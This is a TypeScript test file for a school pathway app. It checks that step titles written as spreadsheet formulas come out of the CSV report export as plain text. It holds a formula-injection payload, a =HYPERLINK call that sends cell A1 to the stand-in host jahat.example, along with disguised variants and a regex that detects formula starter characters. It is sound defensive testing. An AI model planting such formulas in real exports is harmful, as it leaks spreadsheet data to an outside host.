/**
 * CSV exports and formula injection: a step title written as a spreadsheet
 * formula (a pathway document is written by school staff or copied from a
 * template) comes out of the report CSV as text, never as a formula.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFixture, fixtureApp, type Fixture, type FixtureApp } from '@jalur/api/testing';

let f: Fixture;
let api: FixtureApp;
beforeAll(async () => {
  f = await createFixture({ studentsPerSchool: 1 });
  api = fixtureApp(f);
});
afterAll(() => f.close());

const FORMULA = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")';
/** The same formula behind what spreadsheet programs skip or read alike: a leading space, a non-breaking space, the full-width `＝`. */
const DISGUISED = [` ${FORMULA}`, `\u00A0${FORMULA}`, `＝HYPERLINK("http://jahat.example/","Klik")`, `\u3000+62 811`];
/** A cell (unquoted) a spreadsheet would run: a starter after any white space, ASCII or full-width. */
const RUNS = /^[\s\u00A0\u200B\u3000\uFEFF]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u;

describe('CSV exports', () => {
  it('write formula-looking text as text', async () => {
    const kepsek = f.a.users.kepsek;
    for (const [i, title] of DISGUISED.entries()) {
      const doc = {
        format: 'jalur.pathway/1', key: `formula-${i}`, title: { id: `Formula ${i}` }, layout: {},
        machine: { id: `formula${i}`, initial: `langkah${i}`, states: {
          [`langkah${i}`]: { meta: { kind: 'monitoring', title: { id: title }, roles: ['guru_bk'] }, on: { SELESAI: 'akhir' } },
          akhir: { type: 'final', meta: { kind: 'closure', title: { id: 'Selesai' } } },
        } },
      };
      const made = await api.call(kepsek, 'POST', '/api/pathways', { document: doc });
      expect(made.status, JSON.stringify(made.body).slice(0, 300)).toBe(201);
      expect((await api.call(kepsek, 'POST', `/api/pathways/${made.body.id}/publish`, {})).status).toBe(201);
      expect((await api.call(f.a.users.guru_bk, 'POST', '/api/cases', { studentId: f.a.students[0]!.id, pathwayId: made.body.id })).status).toBe(201);
    }
    const document = {
      format: 'jalur.pathway/1', key: 'formula', title: { id: 'Formula' }, layout: {},
      machine: { id: 'formula', initial: 'awal', states: {
        awal: { meta: { kind: 'monitoring', title: { id: FORMULA }, roles: ['guru_bk'] }, on: { SELESAI: 'akhir' } },
        akhir: { type: 'final', meta: { kind: 'closure', title: { id: '+62 selesai' } } },
      } },
    };
    const created = await api.call(kepsek, 'POST', '/api/pathways', { document });
    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
    expect((await api.call(kepsek, 'POST', `/api/pathways/${created.body.id}/publish`, {})).status).toBe(201);
    expect((await api.call(f.a.users.guru_bk, 'POST', '/api/cases', { studentId: f.a.students[0]!.id, pathwayId: created.body.id })).status).toBe(201);
    const csv = await api.call(kepsek, 'GET', '/api/reports/export.csv?table=open-by-step');
    expect(csv.status).toBe(200);
    const text = String(csv.body);
    expect(text).toContain('HYPERLINK');
    for (const title of DISGUISED) expect(text, title).toContain(title.replaceAll('"', '""'));
    // Every cell of every line: none starts with a formula character (quoted or not), after white space or full-width.
    for (const line of text.replace(/^\uFEFF/, '').split('\n').filter(Boolean)) {
      for (const cell of line.split(',')) expect(cell.replace(/^"/, ''), line).not.toMatch(RUNS);
    }
  });
});
